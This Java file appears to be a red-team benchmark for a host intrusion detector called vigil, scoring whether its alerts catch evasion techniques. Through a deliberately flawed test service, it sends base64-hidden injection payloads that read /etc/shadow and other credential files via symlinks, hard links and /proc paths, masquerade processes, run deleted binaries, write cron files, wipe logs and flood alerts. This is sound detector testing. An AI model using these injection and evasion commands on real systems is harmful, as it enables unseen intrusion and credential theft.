package dev.vigil.bench.scenario;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;

/**
 * The red-team bench (issue 21): the agent, with its defaults (warm-up, alert limits, the
 * whole host watched) but a learning period scaled to minutes, guards the scenario
 * benchmark's web service (nginx in front of vigil-webapp, whose /lookup has a
 * command-injection flaw) while an attacker who has read vigil's source tries to do things
 * unseen. Each technique is performed for real: most through the flaw, hidden from the
 * injected command line (`echo B64 | base64 -d | sh`, so only what the kernel saw can name
 * them); some from the host (a second workload's flood, a file storm, a process written into
 * the service's cgroup). Each is judged like a scenario step: named (an alert in its window
 * whose words contain what really happened: "read FILE" for the file really read, "ran
 * PROGRAM" for the program really run, not merely a command line naming them),
 * coverage (a coverage alert in its window: vigil said it lost sight), or missed. The table
 * goes to OUT/table.md and OUT/evasion.json. {@code --vigil LAUNCHER} runs another build's
 * agent (an older checkout's ./vigil) against the same techniques: the before/after table.
 */
public final class EvasionBench {
    static final ObjectMapper JSON = new ObjectMapper();

    /** One technique: its name, what really happens (the words an alert must contain), what it does, how long to wait for its alerts. */
    record Technique(String name, String truth, Action action, Duration window) {}

    interface Action {
        void run(Ctx c) throws Exception;
    }

    /** What a technique acts on. */
    record Ctx(Env env, WebappScenario service, Path appCgroup, Path floodFlag) {}

    /** A command sent through the flaw, hidden: the decoded text never appears in any command line. */
    static Action hidden(String command) {
        String b64 = Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_8));
        return c -> Traffic.once(c.env(), WebappScenario.NGINX, "GET /lookup?host=" + URLEncoder.encode("localhost;echo " + b64 + "|base64 -d|sh",
                StandardCharsets.UTF_8) + " HTTP/1.0\r\nHost: webapp\r\n\r\n");
    }

    static Technique t(String name, String truth, Action a) { return new Technique(name, truth, a, Duration.ofSeconds(5)); }

    static List<Technique> techniques() {
        String dots = "/tmp" + "/.".repeat(150) + "/../etc/security/opasswd";
        String pad = "q".repeat(200);
        return List.of(
                t("plain: cat /etc/shadow (the control)", "read /etc/shadow", hidden("cat /etc/shadow")),
                t("symlink: a link in /tmp to /etc/gshadow, read through it", "read /etc/gshadow",
                        hidden("ln -sf /etc/gshadow /tmp/.v-ev-link; cat /tmp/.v-ev-link; rm -f /tmp/.v-ev-link")),
                t("hard link: /etc/shadow- linked into /tmp and read through it", "read /etc/shadow-",
                        hidden("ln -f /etc/shadow- /tmp/.v-ev-hard; cat /tmp/.v-ev-hard; rm -f /tmp/.v-ev-hard")),
                t("a path of ./ over 255 bytes to /etc/security/opasswd", "read /etc/security/opasswd", hidden("cat " + dots)),
                t("/proc/PID/root: /etc/subuid read through the shell's own root link", "read /etc/subuid", hidden("cat /proc/$$/root/etc/subuid")),
                t("double fork and setsid, then whoami", "ran /usr/bin/whoami", hidden("(setsid sh -c 'sleep 0.5; whoami' > /dev/null &)")),
                t("a renamed copy of a learnt program (getent in /tmp)", "ran /tmp/getent",
                        hidden("cp /usr/bin/getent /tmp/getent; /tmp/getent hosts localhost; rm -f /tmp/getent")),
                t("exec -a: a dropped binary calling itself getent", "ran /tmp/.v-ev-x",
                        hidden("cp /bin/true /tmp/.v-ev-x; bash -c 'exec -a getent /tmp/.v-ev-x hosts localhost'; rm -f /tmp/.v-ev-x")),
                t("a link re-pointed at once: /tmp/.v-ev-tool runs an implant, then points to getent", "ran /tmp/.v-ev-impl",
                        hidden("cp /bin/true /tmp/.v-ev-impl; ln -sf /tmp/.v-ev-impl /tmp/.v-ev-tool; /tmp/.v-ev-tool & ln -sf /usr/bin/getent /tmp/.v-ev-tool; "
                                + "wait; rm -f /tmp/.v-ev-tool /tmp/.v-ev-impl")),
                t("a deleted binary run through /proc/self/fd", "ran /tmp/.v-ev-del",
                        hidden("cp /bin/true /tmp/.v-ev-del; exec 3</tmp/.v-ev-del; rm -f /tmp/.v-ev-del; /proc/self/fd/3")),
                t("argv padded past 200 characters before the new part", "ran /usr/bin/getent shadow",
                        hidden("getent hosts localhost" + pad + " > /dev/null; getent shadow > /dev/null")),
                t("after a repeat: a cron file written by the same shell", "created or wrote /etc/cron.d/vigil-ev",
                        hidden("echo '* * * * * root true' > /etc/cron.d/vigil-ev; rm -f /etc/cron.d/vigil-ev")),
                t("after a repeat: a log emptied", "created or wrote /var/log/vigil-ev.log", hidden(": > /var/log/vigil-ev.log")),
                t("a thousand long file names in one burst", "created or wrote /tmp/.v-ev-l/",
                        hidden("mkdir -p /tmp/.v-ev-l; p=" + pad + "; for a in a b c d e f g h i j; do for b in a b c d e f g h i j; do for d in a b c d e f g h i j; do "
                                + ": > /tmp/.v-ev-l/$p$a$b$d; done; done; done; ln -sf /etc/passwd /tmp/.v-ev-long-$p; cat /tmp/.v-ev-long-$p > /dev/null; "
                                + "rm -rf /tmp/.v-ev-l /tmp/.v-ev-long-$p")),
                new Technique("a flood of distinct alerts from another workload, then uname", "ran /usr/bin/uname", c -> {
                    Files.writeString(c.floodFlag(), "go");
                    Thread.sleep(4000);
                    hidden("uname -a > /dev/null").run(c);
                    Thread.sleep(3000);
                    Files.deleteIfExists(c.floodFlag());
                }, Duration.ofSeconds(9)),
                new Technique("an exec storm of a learnt command (2,000 getent), then /etc/subgid read", "read /etc/subgid",
                        hidden("i=0; while [ $i -lt 2000 ]; do getent hosts localhost > /dev/null & i=$((i+1)); done; cat /etc/subgid > /dev/null; wait"),
                        Duration.ofSeconds(10)),
                new Technique("a file storm in another workload (20,000 files), then /etc/login.defs read", "read /etc/login.defs", c -> {
                    Path d = c.env().dir().resolve("storm");
                    Process storm = c.env().start(c.env().cgroup("storm"), c.env().dir().resolve("storm.log"), "/usr/bin/perl", "-e",
                            "mkdir '" + d + "'; for my $i (1..20000) { open(my $f, '>', '" + d + "/f' . $i) or die; close $f }");
                    Thread.sleep(300);
                    hidden("cat /etc/login.defs > /dev/null").run(c);
                    storm.waitFor(60, TimeUnit.SECONDS);
                }, Duration.ofSeconds(10)),
                new Technique("a program written into the service's cgroup from outside", "from outside", c -> {
                    Process p = new ProcessBuilder("/bin/sh", "-c", "echo $$ > " + c.appCgroup().resolve("cgroup.procs") + " && exec /usr/bin/sleep 1").start();
                    p.waitFor(10, TimeUnit.SECONDS);
                }, Duration.ofSeconds(5)),
                new Technique("crash the service, act in its warm-up: /etc/pam.d/common-auth read", "read /etc/pam.d/common-auth", c -> {
                    c.service().restart(c.env()); // killed and started again, as a crash and its restart by the unit
                    hidden("cat /etc/pam.d/common-auth > /dev/null").run(c);
                }, Duration.ofSeconds(8)));
    }

    public static void main(String[] args) throws Exception {
        long learn = 120;
        Path out = Path.of("evasion");
        String launcher = null;
        for (int i = 0; i < args.length; i += 2) {
            if (i + 1 >= args.length) throw new IllegalArgumentException(args[i] + " needs a value");
            switch (args[i]) {
                case "--learn" -> learn = Long.parseLong(args[i + 1]);
                case "--out" -> out = Path.of(args[i + 1]);
                case "--vigil" -> launcher = args[i + 1];
                default -> throw new IllegalArgumentException("unknown option " + args[i] + " (--learn S, --out DIR, --vigil LAUNCHER)");
            }
        }
        Files.createDirectories(out);
        WebappScenario s = new WebappScenario();
        String why = s.unavailable();
        if (why != null) {
            System.out.println("evasion bench skipped: " + why);
            return;
        }
        new EvasionBench().run(s, Duration.ofSeconds(learn), out.toAbsolutePath(), launcher);
    }

    void run(WebappScenario s, Duration learn, Path out, String launcher) throws Exception {
        String id = "vigil-ev-" + ProcessHandle.current().pid();
        Env env = new Env(id, dev.vigil.host.Cgroups.root().resolve(id), Path.of(System.getProperty("java.io.tmpdir"), id));
        Path alerts = out.resolve("alerts.jsonl"), err = out.resolve("agent.log");
        Files.deleteIfExists(alerts);
        Files.deleteIfExists(err);
        Path floodFlag = Path.of("/tmp/" + id + ".flood");
        Files.writeString(Path.of("/var/log/vigil-ev.log"), "a line\n");
        Process agent = null, flood = null;
        Traffic traffic = null;
        ObjectNode result = JSON.createObjectNode().put("vigil", launcher == null ? "this build" : launcher).put("learn_s", learn.toSeconds());
        try {
            env.create();
            Path config = Files.writeString(out.resolve("agent.yaml"), "host: evasion\nstate_dir: " + env.dir().resolve("state") + "\n"
                    + "detectors:\n  sequence: {enabled: false}\n"
                    + "  profiles: {learning: {min: " + learn.toSeconds() / 2 + "s, stable_after: " + learn.toSeconds() / 4 + "s, stable_calls: 5000, deadline: 1h}}\n"
                    + "outputs:\n  file: {path: " + alerts + "}\n");
            List<String> cmd = new ArrayList<>(launcher == null ? Vigil.command().command() : List.of(launcher));
            cmd.addAll(List.of("agent", "--config", config.toString()));
            agent = new ProcessBuilder(cmd).redirectOutput(ProcessBuilder.Redirect.DISCARD).redirectError(err.toFile()).start();
            if (!Vigil.awaitLine(agent, err, "vigil: profiling workloads")) throw new IllegalStateException("the agent did not start: " + Files.readString(err));
            say("the agent runs (%s); learning %d s", launcher == null ? "this build" : launcher, learn.toSeconds());
            s.setUp(env);
            Path appCgroup = env.cgroup("app");
            // the other workload: quiet while learning, a flood of distinct new files when told
            Path floodScript = Files.writeString(env.dir().resolve("flood.sh"), """
                    while :; do
                      if [ -e "$1" ]; then
                        n=$(tr -dc a-z < /dev/urandom | head -c 10); mkdir -p /tmp/.vigil-ev-flood; : > /tmp/.vigil-ev-flood/$n; rm -f /tmp/.vigil-ev-flood/$n
                        sleep 0.05
                      else
                        cat /etc/hostname > /dev/null; sleep 0.5
                      fi
                    done
                    """);
            flood = env.start(env.cgroup("flood"), env.dir().resolve("flood.log"), "/bin/sh", floodScript.toString(), floodFlag.toString());
            traffic = new Traffic(env, 42, s);
            traffic.start();
            Instant t0 = Instant.now();
            Thread.sleep(learn.dividedBy(4).toMillis());
            s.restart(env); // a restart while learning, as a day has its deploys (early: the attack comes after its warm-up)
            say("restarted the service (learning)");
            Thread.sleep(Math.max(0, Duration.between(Instant.now(), t0.plus(learn)).toMillis()));
            // until the service's programs and files are stable (at most another learning period)
            for (int i = 0; i < learn.toSeconds() && !stable(alerts, "vigil-webapp"); i++) Thread.sleep(1000);
            result.put("stable_before_attack", stable(alerts, "vigil-webapp"));
            traffic.pause(true);
            Thread.sleep(2000);
            Ctx c = new Ctx(env, s, appCgroup, floodFlag);
            ArrayNode rows = result.putArray("techniques");
            List<Technique> ts = techniques();
            List<Instant[]> at = new ArrayList<>();
            for (Technique t : ts) {
                Instant start = Instant.now();
                say("technique: %s", t.name());
                t.action().run(c);
                Thread.sleep(Math.max(0, t.window().toMillis() - Duration.between(start, Instant.now()).toMillis()));
                at.add(new Instant[] {start, Instant.now()});
            }
            Thread.sleep(1500);
            List<JsonNode> got = read(alerts);
            int named = 0, coverage = 0, missed = 0;
            StringBuilder table = new StringBuilder("| technique | verdict | the alert |\n|---|---|---|\n");
            for (int i = 0; i < ts.size(); i++) {
                Technique t = ts.get(i);
                Instant from = at.get(i)[0], until = at.get(i)[1];
                List<JsonNode> in = got.stream().filter(a -> within(a, from, until)).toList();
                JsonNode hit = in.stream().filter(a -> !a.path("kind").asText().equals("profile_state") && !a.path("kind").asText().equals("coverage")
                        && (a.path("summary").asText() + " " + a.path("evidence")).contains(t.truth())).findFirst().orElse(null);
                JsonNode cov = in.stream().filter(a -> a.path("kind").asText().equals("coverage")).findFirst().orElse(null);
                String verdict = hit != null ? "named" : cov != null ? "coverage" : "missed";
                switch (verdict) {
                    case "named" -> named++;
                    case "coverage" -> coverage++;
                    default -> missed++;
                }
                String words = hit != null ? hit.path("summary").asText() : cov != null ? cov.path("summary").asText() : "";
                rows.addObject().put("technique", t.name()).put("truth", t.truth()).put("verdict", verdict).put("alert", words)
                        .put("alerts_in_window", in.size());
                table.append("| ").append(t.name()).append(" | ").append(verdict).append(" | ")
                        .append(cut(words.replace("|", "\\|"), 160)).append(" |\n");
                System.out.printf(Locale.ROOT, "  %-9s %s%n            %s%n", verdict, t.name(), cut(words, 200));
            }
            result.put("named", named).put("coverage", coverage).put("missed", missed).put("total", ts.size());
            table.append("\n").append(named).append(" named, ").append(coverage).append(" coverage, ").append(missed).append(" missed of ")
                    .append(ts.size()).append(" (").append(launcher == null ? "this build" : launcher).append(")\n");
            Files.writeString(out.resolve("table.md"), table.toString());
            say("%d named, %d coverage, %d missed of %d; %s", named, coverage, missed, ts.size(), out.resolve("table.md"));
        } finally {
            Files.deleteIfExists(floodFlag);
            if (traffic != null) traffic.stop();
            if (agent != null) {
                agent.destroy();
                if (!agent.waitFor(20, TimeUnit.SECONDS)) agent.destroyForcibly();
            }
            if (flood != null) flood.destroyForcibly();
            s.tearDown(env);
            env.destroy();
            Files.deleteIfExists(Path.of("/var/log/vigil-ev.log"));
            Files.deleteIfExists(Path.of("/etc/cron.d/vigil-ev"));
            result.putPOJO("left_behind", env.leftovers());
            Files.writeString(out.resolve("evasion.json"), JSON.writerWithDefaultPrettyPrinter().writeValueAsString(result));
        }
    }

    /** Has the service's workload (its program named) said its process and files dimensions are stable? */
    static boolean stable(Path alerts, String program) throws java.io.IOException {
        java.util.Set<String> dims = new java.util.HashSet<>();
        for (JsonNode a : read(alerts)) {
            if (a.path("kind").asText().equals("profile_state") && a.path("profile").path("key").asText().contains(program)
                    && a.path("evidence").path("state").asText().equals("stable")) dims.add(a.path("evidence").path("dimension").asText());
        }
        return dims.contains("process") && dims.contains("files");
    }

    static List<JsonNode> read(Path alerts) throws java.io.IOException {
        List<JsonNode> out = new ArrayList<>();
        if (!Files.exists(alerts)) return out;
        for (String l : Files.readAllLines(alerts)) {
            if (l.startsWith("{")) {
                try {
                    out.add(JSON.readTree(l));
                } catch (java.io.IOException torn) {
                    // a line being written
                }
            }
        }
        return out;
    }

    static boolean within(JsonNode a, Instant from, Instant until) {
        Instant t = Instant.parse(a.path("time").asText());
        return !t.isBefore(from) && t.isBefore(until);
    }

    static String cut(String s, int n) { return s.length() <= n ? s : s.substring(0, n) + "..."; }

    static void say(String fmt, Object... args) { System.out.println("[evasion] " + String.format(Locale.ROOT, fmt, args)); }
}
